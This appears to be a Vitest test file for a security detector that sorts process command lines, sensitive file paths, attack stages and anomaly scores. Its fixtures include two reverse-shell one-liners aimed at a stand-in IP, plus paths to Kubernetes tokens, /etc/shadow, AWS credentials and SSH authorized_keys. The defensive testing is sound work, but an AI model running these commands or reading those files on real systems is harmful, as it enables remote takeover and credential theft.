import { describe, expect, it } from 'vitest'
import { fileOf, processOf } from './process-kind.ts'
import { stagesInOrder, tacticOf } from './tactics.ts'
import { Usual } from './usual.ts'

describe('what a program and a file say', () => {
  it('is told by name, whatever the path and the version', () => {
    const rows: readonly [object: string | undefined, kind: string][] = [
      ['/bin/sh -c id', 'shell'],
      ['/usr/bin/bash', 'shell'],
      ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'remote-shell'],
      ['nc 203.0.113.9 4444 -e /bin/sh', 'remote-shell'],
      ['/usr/bin/apt-get', 'package-manager'],
      ['/usr/bin/pip3.11', 'package-manager'],
      ['/usr/bin/curl', 'network-tool'],
      ['/app/server', 'other'],
      ['/usr/local/bin/shipping', 'other'],
      [undefined, 'other'],
    ]
    for (const [object, kind] of rows) expect(processOf(object).kind, String(object)).toBe(kind)
    expect(rows).toHaveLength(10)
  })

  it('is told of files by where they are, and whether they are written', () => {
    const rows: readonly [path: string, writes: boolean, kind: string][] = [
      ['/var/run/secrets/kubernetes.io/serviceaccount/token', false, 'token'],
      ['/run/secrets/kubernetes.io/serviceaccount/..data/token', false, 'token'],
      ['/etc/shadow', false, 'secret'],
      ['/home/app/.aws/credentials', false, 'secret'],
      ['/proc/1/environ', false, 'secret'],
      ['/etc/passwd', false, 'other'],
      ['/etc/passwd', true, 'system'],
      ['/usr/bin/ls', true, 'system'],
      ['/root/.ssh/authorized_keys', true, 'system'],
      ['/tmp/upload', true, 'other'],
    ]
    for (const [path, writes, kind] of rows) expect(fileOf(path, writes), path).toBe(kind)
    expect(rows).toHaveLength(10)
  })
})

describe('stages', () => {
  it('count the longest run in order', () => {
    expect(stagesInOrder(['initial access', 'execution', 'collection'])).toBe(3)
    expect(stagesInOrder(['collection', 'initial access'])).toBe(1)
    expect(stagesInOrder(['execution', 'execution'])).toBe(1)
    expect(stagesInOrder([])).toBe(0)
    expect(tacticOf('T1552.005')).toBe('credential access')
    expect(tacticOf('T9999')).toBeUndefined()
  })
})

describe('what is usual', () => {
  it('is far only from what lies well above it', () => {
    const usual = new Usual()
    for (let value = 0; value < 200; value += 1) usual.add(8 + (value % 5))
    expect(usual.support).toBe(128)
    expect(usual.distance(10).z).toBeLessThan(1)
    expect(usual.distance(20).z).toBeLessThan(6)
    expect(usual.distance(2_000).z).toBeGreaterThan(20)
    expect(Math.round(usual.distance(10).median)).toBe(10)
  })
})
